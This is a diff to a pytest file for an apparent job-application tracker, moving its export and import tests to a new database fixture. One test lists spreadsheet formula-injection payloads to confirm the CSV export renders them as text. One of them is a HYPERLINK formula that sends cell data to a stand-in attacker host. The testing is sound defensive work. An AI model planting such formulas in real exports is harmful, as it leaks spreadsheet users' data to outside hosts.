@@ -12,7 +12,6 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from database_servers import database_for
 from followup.app import applications
 from followup.app.context import Env, bootstrap
 from followup.app.transfer import export_csv, export_json, import_csv
@@ -26,10 +25,10 @@ HEADER = "Company,Role,Applied,Status\n"
 
 
 @pytest.fixture
-def env(tmp_path: Path) -> Iterator[Env]:
+def env(tmp_path: Path, new_database) -> Iterator[Env]:
     config = tmp_path / "settings.toml"
     config.write_text('timezone = "Europe/Paris"\ncountry = "FR"\n', encoding="utf-8")
-    environment = bootstrap(db_path=database_for(tmp_path, "f"), config_path=str(config), clock=lambda: NOW)
+    environment = bootstrap(db_path=new_database("f"), config_path=str(config), clock=lambda: NOW)
     yield environment
     environment.close()
 
@@ -325,11 +324,11 @@ def test_the_csv_export_has_one_row_per_application_with_what_comes_next(env):
     assert second["next_action"] == ""
 
 
-def test_the_csv_export_reads_back(env, tmp_path):
+def test_the_csv_export_reads_back(env, tmp_path, new_database):
     import_csv(env, (DATA / "google_sheets_tracker.csv").read_bytes())
     exported = export_csv(env)
     config = tmp_path / "settings.toml"
-    other = bootstrap(db_path=database_for(tmp_path, "other"), config_path=str(config), clock=lambda: NOW)
+    other = bootstrap(db_path=new_database("other"), config_path=str(config), clock=lambda: NOW)
     report = import_csv(other, exported)
     assert report.counts["applications"] == 8
     assert report.warnings[0].startswith('Kept in the notes, as “Column: value”: "id", "created_at"')
@@ -342,7 +341,7 @@ def test_the_csv_export_reads_back(env, tmp_path):
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
 
 
-def test_the_csv_export_writes_formulas_as_text_and_they_read_back_as_written(env, tmp_path):
+def test_the_csv_export_writes_formulas_as_text_and_they_read_back_as_written(env, tmp_path, new_database):
     # The attack: a company or role named like a formula runs as one when the export is opened.
     for n, formula in enumerate(FORMULAS):
         applications.add_application(env, applications.NewApplication(company=f"{formula} {n}", role=formula))
@@ -355,7 +354,7 @@ def test_the_csv_export_writes_formulas_as_text_and_they_read_back_as_written(en
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, cell)
     assert sorted(row["role"] for row in rows) == sorted("'" + role for _company, role in stored)
     config = str(tmp_path / "settings.toml")
-    other = bootstrap(db_path=database_for(tmp_path, "other"), config_path=config, clock=lambda: NOW)
+    other = bootstrap(db_path=new_database("other"), config_path=config, clock=lambda: NOW)
     import_csv(other, exported)
     assert sorted((a["company"], a["role"]) for a in export_json(other)["applications"]) == stored
     other.close()
